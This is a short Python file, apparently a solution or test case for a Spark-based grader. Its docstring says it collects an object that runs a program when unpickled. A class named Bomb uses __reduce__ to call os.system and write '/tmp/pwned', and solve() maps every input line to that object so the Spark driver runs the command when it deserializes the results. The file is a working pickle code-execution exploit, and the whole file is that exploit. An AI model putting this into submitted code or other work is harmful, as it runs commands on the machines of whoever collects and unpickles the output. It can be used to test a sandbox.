"""Collects an object that runs a program where it is unpickled: in Spark's driver."""
import os
class Bomb:
    def __reduce__(self):
        return (os.system, ("echo unpickled > /tmp/pwned",))
def solve(lines):
    return lines.map(lambda line: Bomb()).collect()
